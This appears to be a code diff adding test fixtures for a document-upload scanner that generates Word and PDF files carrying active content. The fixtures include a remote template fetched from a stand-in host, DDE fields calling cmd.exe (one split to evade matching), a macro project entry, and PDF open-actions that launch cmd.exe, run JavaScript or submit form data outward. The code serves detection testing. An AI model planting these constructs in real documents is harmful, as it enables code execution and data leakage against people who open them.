@@ -81,3 +81,46 @@ export async function upload(who, n, bytes, name, more = {}) {
     { body, headers: { accept: 'application/json' } });
   return { status: reply.status, ...JSON.parse(reply.content) };
 }
+
+const related = (type, target) => ['word/_rels/document.xml.rels', '<Relationships xmlns="r"><Relationship Id="a" ' +
+  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ` +
+  'TargetMode="External"/></Relationships>'];
+const field = (...words) => words.map((word) => `<w:r><w:instrText>${word}</w:instrText></w:r>`).join('');
+
+/** Documents that do something when they are opened: what they do → [bytes, name]. */
+export const acting = () => Object.entries({
+  'remote template': docx('', [related('attachedTemplate', 'https://evil.example/a.dotm')]),
+  'remote object': docx('', [related('oleObject', '\\\\host\\share\\a.xls')]),
+  'DDE in pieces': docx(`<w:fldChar w:fldCharType="begin"/>${field(' DD', 'EAUTO c:\\\\cmd.exe ')}`),
+  'DDE of a simple field': docx('<w:fldSimple w:instr=" ddeauto cmd"/>'),
+  'macros by type': zip([['[Content_Types].xml', '<Types xmlns="t"><Override PartName="/word/x.bin" ' +
+    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'], ['word/document.xml', '<a/>']]),
+  'other case': zip([['[content_types].XML', '<Types xmlns="t"/>'], ['WORD/Document.XML',
+    '<w:d xmlns:w="w"><w:fldSimple w:instr="DDE x"/></w:d>']]),
+  'another ending': docx('', [['word/story.dat', '<?xml version="1.0"?><a><b instr=""/>' +
+    '<fldSimple instr="DDE x"/></a>']]),
+}).map(([what, bytes]) => [what, bytes, 'a.docx']).concat(Object.entries({
+  launch: { catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' },
+  script: { catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' },
+  'script of a page': { annotation: '/AA<</O<</S/JavaScript/JS(x)>>>>' },
+  'script of a field': { annotation: '/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/JavaScript/JS(x)>>>>]' },
+  sending: { annotation: '/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://x)>>>>]' },
+  'rich media': { annotation: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' },
+  XFA: { catalog: '/AcroForm<</Fields[]/XFA[(a)4 0 R]>>' },
+}).map(([what, more]) => [what, pdf(more), 'a.pdf']));
+export const twinDocx = () => docx('', [['WORD/document.xml', '<a/>']]);
+
+/** Documents that are taken, with what is told of them: [bytes, name, findings]. */
+export const odd = (photo) => [
+  [docx('', [['word/media/image1.jpg', photo]]), 'photo.docx', ['place']],
+  [docx('', [['word/media/image1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')]]), 'ole.docx', ['files']],
+  [docx('', [related('image', 'http://x.example/a.png')]), 'image.docx', ['outside']],
+  [docx('', [related('attachedTemplate', 'file:///C:\\Users\\wang\\Normal.dotm')]), 'template.docx',
+    ['outside']],
+  [docx('', [['customXml/item1.xml', '<a><name>王小明</name></a>']]), 'data.docx', ['data']],
+  [docx('', [related('hyperlink', 'http://x.example/'), ['customXml/item1.xml', '<a b="c"/>'],
+    ['docProps/custom.xml', '<P><property name="KSOProductBuildVer"><v>2052</v></property></P>']]), 'plain.docx', []],
+  [pdf({ annotation: '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>' }), 'aa.pdf', ['author', 'actions']],
+  [pdf({ catalog: '/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>' }), 'other.pdf', ['author', 'outside']],
+  [pdf({ catalog: '/OpenAction[3 0 R/Fit]' }), 'view.pdf', ['author']],
+];
